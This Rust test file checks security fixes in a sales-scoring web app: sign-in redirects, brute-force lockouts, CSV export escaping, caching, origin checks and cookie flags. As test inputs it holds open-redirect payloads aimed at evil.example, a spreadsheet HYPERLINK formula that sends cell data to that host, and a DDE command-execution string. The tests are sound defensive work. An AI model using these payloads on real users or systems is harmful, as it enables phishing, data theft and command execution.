//! The holes of issue 9, closed, on SQLite and PostgreSQL: redirects after sign-in stay on
//! the site, parallel sign-ins cannot get past the lockout (and the owner's own device is
//! not locked out), exported CSV cells never run as spreadsheet formulas, signed-in pages
//! are not cached, and the cross-site check and cookies follow the scheme.

mod common;

use common::{fixture, scalar, Engine, TestApp, PASSWORD};
use futures_util::future::join_all;
use pacesetter::auth::throttle::{MAX_PER_ACCOUNT, MAX_PER_CLIENT};
use serde_json::{json, Value};

on_both_engines!(
    no_js_sign_in_redirects_only_within_the_site,
    parallel_sign_ins_cannot_pass_the_account_lockout,
    parallel_guesses_cannot_pass_the_address_lockout,
    exported_cells_never_run_as_formulas_and_import_back_unchanged,
    signed_in_pages_and_new_secrets_are_not_cached,
    cross_site_check_compares_scheme_and_host,
    cookies_are_secure_when_the_request_came_over_https,
);

/// The sign-in form posted without JavaScript (the browser asks for HTML).
async fn no_js_sign_in(app: &TestApp, next: &str) -> Result<reqwest::Response, reqwest::Error> {
    app.client()
        .post(app.at("/api/sign_in"))
        .header("accept", "text/html")
        .form(&[
            ("email", "ada@example.com"),
            ("password", PASSWORD),
            ("next", next),
        ])
        .send()
        .await
}

fn location(res: &reqwest::Response) -> String {
    res.headers()
        .get("location")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default()
}

async fn no_js_sign_in_redirects_only_within_the_site(engine: Engine) {
    let app = TestApp::start(engine).await;
    fixture(&app).await;
    let ok = no_js_sign_in(&app, "/leaderboard?period=week")
        .await
        .unwrap();
    assert_eq!(ok.status(), 302);
    assert_eq!(location(&ok), "/leaderboard?period=week");
    // `?next=%2F%09%2Fevil.example%2Fphish` and friends, as the form posts them back.
    for next in [
        "/\t/evil.example/phish",
        "/\n/evil.example/phish",
        "//evil.example",
        "/\\evil.example",
        "/.//evil.example",
        "https://evil.example/",
    ] {
        let res = no_js_sign_in(&app, next).await.unwrap();
        assert_eq!(res.status(), 302, "{next:?}");
        assert_eq!(location(&res), "/me", "{next:?}");
    }
    // A control character once panicked building the header: the reply was empty.
    for next in ["/\u{1}", "/\u{7f}", "/\u{0}x"] {
        let res = no_js_sign_in(&app, next)
            .await
            .unwrap_or_else(|e| panic!("no reply for next={next:?}: {e}"));
        assert_eq!(res.status(), 302, "{next:?}");
        assert_eq!(location(&res), "/me", "{next:?}");
    }
    // With JavaScript the server function answers 200 and the page follows `Location`.
    let res = app
        .client()
        .post(app.at("/api/sign_in"))
        .form(&[
            ("email", "ada@example.com"),
            ("password", PASSWORD),
            ("next", "/\t/evil.example/phish"),
        ])
        .send()
        .await
        .unwrap();
    assert!(res.status().is_success(), "{}", res.status());
    assert_eq!(location(&res), "/me");
}

/// 59 wrong guesses and the right password sent together, each on its own connection, as
/// from many addresses: at most [`MAX_PER_ACCOUNT`] passwords are checked, and the right
/// one is refused afterwards, except from a device that signed in before.
async fn parallel_sign_ins_cannot_pass_the_account_lockout(engine: Engine) {
    let app = TestApp::start(engine).await;
    fixture(&app).await;
    // Ada's phone signed in last week: it carries a known-device cookie.
    let phone = app.client();
    let res = app.sign_in(&phone, "ada@example.com", PASSWORD).await;
    let cookies: Vec<_> = res.headers().get_all("set-cookie").iter().collect();
    assert!(
        cookies
            .iter()
            .any(|c| c.to_str().unwrap().starts_with("ps_device=")),
        "{cookies:?}"
    );
    assert_eq!(
        app.count("sign_in_attempts").await,
        0,
        "a success is not a failure"
    );

    let burst = (0..60).map(|i| {
        let app = &app;
        async move {
            let password = if i == 30 { PASSWORD } else { "wrong-guess" };
            app.sign_in(&app.client(), "ada@example.com", password)
                .await
                .status()
                .as_u16()
        }
    });
    let statuses = join_all(burst).await;
    let failed = statuses.iter().filter(|s| **s == 401).count() as i64;
    let succeeded = statuses.iter().filter(|s| matches!(s, 200 | 302)).count() as i64;
    assert!(
        statuses.iter().all(|s| matches!(s, 200 | 302 | 401 | 429)),
        "{statuses:?}"
    );
    // Only the failures hold slots (a success gives its own back), so at most
    // MAX_PER_ACCOUNT wrong passwords were checked.
    assert!(
        (1..=MAX_PER_ACCOUNT).contains(&failed) && succeeded <= 1,
        "{failed} wrong passwords checked: {statuses:?}"
    );
    // Every failure is still counted, also when the right password got through with them.
    assert_eq!(
        scalar(
            &app.db,
            "SELECT COUNT(*) FROM sign_in_attempts WHERE email = 'ada@example.com'"
        )
        .await,
        failed
    );

    // Fill the account's slots if the right password took one; then it is locked.
    for _ in failed..MAX_PER_ACCOUNT {
        let res = app.sign_in(&app.client(), "ada@example.com", "wrong").await;
        assert_eq!(res.status(), 401);
    }
    let stranger = app
        .sign_in(&app.client(), "ada@example.com", PASSWORD)
        .await;
    assert_eq!(stranger.status(), 429);
    assert!(!stranger.headers().contains_key("set-cookie"));

    // Ada's own phone still signs in with the right password…
    let res = app.sign_in(&phone, "ada@example.com", PASSWORD).await;
    assert!(
        res.status().is_success() || res.status().is_redirection(),
        "known device refused: {}",
        res.status()
    );
    // …but guessing from it is limited too: the device has slots of its own.
    let guesses = (0..MAX_PER_ACCOUNT + 3).map(|_| {
        let (app, phone) = (&app, &phone);
        async move {
            app.sign_in(phone, "ada@example.com", "wrong")
                .await
                .status()
                .as_u16()
        }
    });
    let statuses = join_all(guesses).await;
    assert_eq!(
        statuses.iter().filter(|s| **s == 401).count() as i64,
        MAX_PER_ACCOUNT,
        "{statuses:?}"
    );
    let res = app.sign_in(&phone, "ada@example.com", PASSWORD).await;
    assert_eq!(res.status(), 429);
    // Another account is not affected by any of it.
    app.signed_in("ben@example.com", PASSWORD).await;
}

/// Password spraying sent all at once from one address stops at [`MAX_PER_CLIENT`].
async fn parallel_guesses_cannot_pass_the_address_lockout(engine: Engine) {
    let app = TestApp::start(engine).await;
    fixture(&app).await;
    let spray = (0..MAX_PER_CLIENT + 20).map(|i| {
        let app = &app;
        async move {
            app.sign_in(&app.client(), &format!("guess{i}@example.com"), "password1")
                .await
                .status()
                .as_u16()
        }
    });
    let statuses = join_all(spray).await;
    assert_eq!(
        statuses.iter().filter(|s| **s == 401).count() as i64,
        MAX_PER_CLIENT,
        "{statuses:?}"
    );
    assert!(statuses.iter().all(|s| matches!(s, 401 | 429)));
    assert_eq!(app.count("sign_in_attempts").await, MAX_PER_CLIENT);
}

const LINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;

async fn post_api(app: &TestApp, token: &str, path: &str, body: &Value) -> Value {
    let res = reqwest::Client::new()
        .post(app.at(path))
        .bearer_auth(token)
        .json(body)
        .send()
        .await
        .unwrap();
    let status = res.status();
    let body: Value = res.json().await.unwrap();
    assert!(status.is_success(), "{path}: {status} {body}");
    body
}

async fn token(app: &TestApp, scope: &str) -> String {
    pacesetter::server::tokens::create_api_token(&app.db, "test", scope, &[scope.to_string()])
        .await
        .unwrap()
        .1
}

fn parse_csv(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Notes, accounts, deal, person and team names planted through the API come out of every
/// export as text (`'=…`), and the activity and deal files import back changing nothing.
async fn exported_cells_never_run_as_formulas_and_import_back_unchanged(engine: Engine) {
    let app = TestApp::start(engine).await;
    fixture(&app).await;
    let (admin_token, ingest) = (token(&app, "admin").await, token(&app, "ingest").await);
    let planted = [
        LINK,
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "=1+1",
        "'=already quoted",
    ];
    post_api(
        &app,
        &admin_token,
        "/api/v1/users",
        &json!({"email": "mallory@example.com", "name": LINK, "team": planted[2],
            "sales_role": "sdr", "password": "long-enough-password"}),
    )
    .await;
    post_api(
        &app,
        &ingest,
        "/api/v1/activities",
        &json!({"rep_email": "mallory@example.com", "type": "call", "occurred_at": "2025-06-10T10:00:00Z",
            "note": LINK, "account": planted[1], "source": "dialler", "external_id": planted[3]}),
    )
    .await;
    post_api(
        &app,
        &ingest,
        "/api/v1/activities",
        &json!({"rep_email": "ada@example.com", "type": "call", "occurred_at": "2025-06-11T10:00:00Z",
            "note": planted[5], "account": planted[4], "source": "dialler", "external_id": "c-2"}),
    )
    .await;
    post_api(
        &app,
        &ingest,
        "/api/v1/deals",
        &json!({"rep_email": "mallory@example.com", "name": planted[2], "account": LINK, "amount": 1000,
            "currency": "EUR", "stage": "Proposal", "probability": 50, "created_on": "2025-06-02", "source": "crm", "external_id": "D-1"}),
    )
    .await;
    let sdr = scalar(&app.db, "SELECT id FROM sales_roles WHERE key = 'sdr'").await;
    common::exec(&app.db, &format!("INSERT INTO scorecard_metrics (sales_role_id, metric, is_leading, weight, sort_order) VALUES ({sdr}, 'activity_score', TRUE, 1, 0)")).await;
    let stored = |sql: &'static str| {
        let db = app.db.clone();
        async move {
            match &db {
                pacesetter::server::db::Db::Sqlite(p) => {
                    sqlx::query_as::<_, (String, String)>(sql)
                        .fetch_all(p)
                        .await
                }
                pacesetter::server::db::Db::Postgres(p) => {
                    sqlx::query_as::<_, (String, String)>(sql)
                        .fetch_all(p)
                        .await
                }
            }
            .unwrap()
        }
    };
    let activities_sql = "SELECT note, account FROM activities ORDER BY id";
    let deals_sql = "SELECT name, account FROM deals ORDER BY id";
    let before = (stored(activities_sql).await, stored(deals_sql).await);
    assert_eq!(before.0[0], (LINK.to_string(), planted[1].to_string()));

    let admin = app.signed_in("root@example.com", PASSWORD).await;
    let mut files = Vec::new();
    for path in [
        "/export/activities.csv",
        "/export/deals.csv",
        "/export/leaderboard.csv?period=month&date=2025-06-15",
        "/export/scorecards.csv?period=month&date=2025-06-15",
    ] {
        let res = admin.get(app.at(path)).send().await.unwrap();
        assert_eq!(res.status(), 200, "{path}");
        let text = res.text().await.unwrap();
        let cells: Vec<String> = parse_csv(&text).into_iter().flatten().collect();
        for cell in &cells {
            let numeric = cell.parse::<f64>().is_ok();
            assert!(
                numeric || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{path}: live cell {cell:?} in\n{text}"
            );
        }
        assert!(
            cells.iter().any(|c| c == &format!("'{LINK}")),
            "{path}: the planted formula is missing\n{text}"
        );
        files.push(text);
    }
    let activities = parse_csv(&files[0]);
    assert!(activities[1..]
        .iter()
        .any(|r| r[6] == format!("'{}", planted[1]) && r[8] == "'-2+3"));
    assert!(activities[1..]
        .iter()
        .any(|r| r[5] == "''=already quoted" && r[6] == "'=1+1"));
    assert!(
        parse_csv(&files[2]).iter().any(|r| r[3] == "'@SUM(1+1)"),
        "team name"
    );

    for (kind, file, rows) in [("activities", &files[0], 2), ("deals", &files[1], 1)] {
        let res = app
            .call(
                &admin,
                "admin_import_csv",
                &[("kind", kind), ("csv", file), ("dry_run", "false")],
            )
            .await;
        let report: Value = res.json().await.unwrap();
        assert_eq!(report["errors"], json!([]), "{kind}: {report}");
        assert_eq!(
            (report["created"].as_u64(), report["updated"].as_u64()),
            (Some(0), Some(rows)),
            "{kind}: {report}"
        );
    }
    assert_eq!(
        (stored(activities_sql).await, stored(deals_sql).await),
        before,
        "values kept exactly"
    );
}

async fn signed_in_pages_and_new_secrets_are_not_cached(engine: Engine) {
    let app = TestApp::start(engine).await;
    fixture(&app).await;
    let cache = |res: &reqwest::Response| {
        res.headers()
            .get("cache-control")
            .map(|v| v.to_str().unwrap().to_string())
    };
    let ada = app.signed_in("ada@example.com", PASSWORD).await;
    for path in ["/me", "/", "/login"] {
        let res = ada.get(app.at(path)).send().await.unwrap();
        assert_eq!(cache(&res).as_deref(), Some("no-store"), "{path}");
    }
    let res = app.call(&ada, "my_score", &[("period", "month")]).await;
    assert_eq!(res.status(), 200);
    assert_eq!(cache(&res).as_deref(), Some("no-store"), "server function");
    // The sign-in reply sets the session cookie.
    let res = app
        .sign_in(&app.client(), "ben@example.com", PASSWORD)
        .await;
    assert_eq!(cache(&res).as_deref(), Some("no-store"), "sign-in");

    let admin = app.signed_in("root@example.com", PASSWORD).await;
    let res = app
        .call(
            &admin,
            "admin_create_api_token",
            &[("name", "crm"), ("scopes[0]", "read")],
        )
        .await;
    assert_eq!(res.status(), 200, "{:?}", res.text().await);
    assert_eq!(cache(&res).as_deref(), Some("no-store"), "API token secret");
    let res = app
        .call(&admin, "admin_create_display", &[("form[name]", "Lobby")])
        .await;
    assert_eq!(res.status(), 200);
    assert_eq!(cache(&res).as_deref(), Some("no-store"), "display link");
}

async fn cross_site_check_compares_scheme_and_host(engine: Engine) {
    let app = TestApp::start(engine).await;
    fixture(&app).await;
    let ada = app.signed_in("ada@example.com", PASSWORD).await;
    let host = app.url.trim_start_matches("http://").to_string();
    let port = host.rsplit(':').next().unwrap().to_string();
    let post = |origin: String| {
        let ada = ada.clone();
        let url = app.at("/api/log_activity");
        async move {
            ada.post(url)
                .header("origin", origin)
                .form(&[("type_key", "call")])
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    for origin in [
        format!("https://{host}"),
        format!("http://localhost:{port}"),
        format!("http://127.0.0.1:{}", port.parse::<u16>().unwrap() + 1),
        "null".to_string(),
    ] {
        assert_eq!(post(origin.clone()).await, 403, "{origin}");
    }
    assert_eq!(app.count("activities").await, 0, "nothing was written");
    assert_eq!(post(app.url.clone()).await, 200);
}

async fn cookies_are_secure_when_the_request_came_over_https(engine: Engine) {
    let app = TestApp::start(engine).await;
    fixture(&app).await;
    let sign_in = |proto: Option<&'static str>| {
        let mut req = app
            .client()
            .post(app.at("/api/sign_in"))
            .form(&[("email", "ada@example.com"), ("password", PASSWORD)]);
        if let Some(proto) = proto {
            req = req.header("x-forwarded-proto", proto);
        }
        async move {
            let res = req.send().await.unwrap();
            assert!(res.status().is_success(), "{}", res.status());
            res.headers()
                .get_all("set-cookie")
                .iter()
                .map(|v| v.to_str().unwrap().to_string())
                .collect::<Vec<_>>()
        }
    };
    let plain = sign_in(None).await;
    assert!(!plain.is_empty());
    assert!(plain.iter().all(|c| !c.contains("Secure")), "{plain:?}");
    let tls = sign_in(Some("https")).await;
    assert_eq!(tls.len(), plain.len(), "{tls:?}");
    assert!(
        tls.iter()
            .all(|c| c.contains("; Secure") && c.contains("HttpOnly")),
        "{tls:?}"
    );
    // Same-site only: the session Lax (links from mail still open the app), the
    // known-device cookie Strict and sent to the sign-in endpoint alone.
    let session = tls.iter().find(|c| c.starts_with("ps_session=")).unwrap();
    assert!(
        session.contains("SameSite=Lax") && session.contains("Path=/;"),
        "{session}"
    );
    // Every sign-in gets a new session token (ASVS 3.2.1).
    let again = sign_in(Some("https")).await;
    let value = |c: &str| c.split(';').next().unwrap().to_string();
    let next = again.iter().find(|c| c.starts_with("ps_session=")).unwrap();
    assert_ne!(value(session), value(next));
    let device = tls.iter().find(|c| c.starts_with("ps_device=")).unwrap();
    assert!(
        device.contains("SameSite=Strict") && device.contains("Path=/api/sign_in"),
        "{device}"
    );
}
